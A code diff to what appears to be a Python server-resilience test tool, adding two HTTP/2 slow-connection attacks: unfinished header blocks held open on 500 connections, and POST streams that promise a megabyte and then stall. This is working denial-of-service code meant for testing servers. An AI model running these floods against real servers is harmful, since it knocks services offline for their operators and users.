@@ -17,6 +17,12 @@ ATTACK is one of:
                 (GOAWAY), a new one takes over, so the flood lasts the whole duration.
   h1-leave      COUNT (100) HTTP/1.1 clients, one every 10 ms, each sends GET PATH
                 (/sleep.php?ms=200) and closes 30 ms later; then waits out the duration.
+  h2-headers-stall
+                COUNT (500) HTTP/2 connections send the preface, then HEADERS for GET PATH
+                (/hello.php) without END_HEADERS, a header block never finished, and stay.
+  h2-post-stall COUNT (10) HTTP/2 connections each open STREAMS (100) streams: HEADERS for
+                POST PATH (/hello.php) with content-length: 1000000, then 4 bytes of DATA, and
+                stall. 100 is below both peers' 128 concurrent streams.
 
 Every attack stops after --duration seconds (plus at most 1 s of draining for no-read) and
 prints one line of `key=value` counters on stdout, for the report's notes.
@@ -32,6 +38,7 @@ import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+STREAMS = 100  # h2-post-stall: streams per connection
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
 CANCEL = 0x8
 
@@ -41,6 +48,8 @@ DEFAULTS = {  # attack: (count, path)
     "no-read": (3, "/big.php"),
     "h2-rst-flood": (1, "/sleep.php?ms=200"),
     "h1-leave": (100, "/sleep.php?ms=200"),
+    "h2-headers-stall": (500, "/hello.php"),
+    "h2-post-stall": (10, "/hello.php"),
 }
 
 
@@ -51,7 +60,8 @@ def frame(kind, flags, stream, payload=b""):
 def hpack_literal(index, value):
     """Literal header field without indexing, name from the static table (4-bit prefix),
     value without Huffman coding."""
-    assert index < 15
+    assert index < 15 + 127
+    name = bytes([index]) if index < 15 else bytes([15, index - 15])
     value = value.encode()
     if len(value) < 127:
         length = bytes([len(value)])
@@ -62,12 +72,17 @@ def hpack_literal(index, value):
             rest //= 128
         length.append(rest)
         length = bytes(length)
-    return bytes([index]) + length + value
+    return name + length + value
 
 
 def get_headers_block(path, authority):
     # :method GET (static 2), :scheme http (static 6), :path and :authority as literals.
     return b"\x82\x86" + hpack_literal(4, path) + hpack_literal(1, authority)
+
+
+def post_headers_block(path, authority, length):
+    # :method POST (static 3), :scheme http, :path, :authority, content-length (static 28).
+    return b"\x83\x86" + hpack_literal(4, path) + hpack_literal(1, authority) + hpack_literal(28, str(length))
 
 
 def client_preface():
@@ -147,7 +162,7 @@ def many_connections(args, first_bytes, h2):
         selector.register(sock, selectors.EVENT_WRITE)
     connected = closed = 0
     statuses = {}
-    goaways = 0
+    goaways = heads = resets = 0
     while time.monotonic() < deadline:  # also once every connection is gone: fixed length
         for key, events in selector.select(timeout=max(0.0, min(0.5, deadline - time.monotonic()))):
             sock = key.fileobj
@@ -185,6 +200,9 @@ def many_connections(args, first_bytes, h2):
                 st["head"] += chunk
             if not chunk:
                 closed += 1
+                if st["h2"] is not None:
+                    heads += st["h2"].headers
+                    resets += st["h2"].rst
                 if st["h2"] is not None and st["h2"].goaway is not None:
                     goaways += 1
                 elif st["h2"] is None:
@@ -194,12 +212,15 @@ def many_connections(args, first_bytes, h2):
                 sock.close()
                 del state[sock]
     still_connecting = sum(1 for st in state.values() if not st["sent"])
-    for sock in state:
+    for sock, st in state.items():
+        if st["h2"] is not None:
+            heads += st["h2"].headers
+            resets += st["h2"].rst
         sock.close()
     counters = dict(connections=args.count, connected=connected, connect_failed=failed,
                     never_connected=still_connecting, closed_by_server=closed)
     if h2:
-        counters["goaway_then_closed"] = goaways
+        counters.update(goaway_then_closed=goaways, response_heads=heads, server_resets=resets)
     else:
         counters["statuses_of_closed"] = ",".join(f"{k}:{v}" for k, v in sorted(statuses.items())) or "-"
     report(**counters)
@@ -213,6 +234,18 @@ def body_stall(args):
     head = (f"POST {args.path} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n"
             "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n").encode()
     many_connections(args, head + b"abcd", h2=False)
+
+
+def h2_headers_stall(args):
+    block = get_headers_block(args.path, f"{args.host}:{args.port}")
+    many_connections(args, client_preface() + frame(HEADERS, END_STREAM, 1, block), h2=True)
+
+
+def h2_post_stall(args):
+    block = post_headers_block(args.path, f"{args.host}:{args.port}", 1000000)
+    streams = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"abcd")
+                       for stream in range(1, 2 * STREAMS, 2))
+    many_connections(args, client_preface() + streams, h2=True)
 
 
 def no_read(args):
@@ -369,6 +402,8 @@ ATTACKS = {
     "no-read": no_read,
     "h2-rst-flood": h2_rst_flood,
     "h1-leave": h1_leave,
+    "h2-headers-stall": h2_headers_stall,
+    "h2-post-stall": h2_post_stall,
 }
 
 
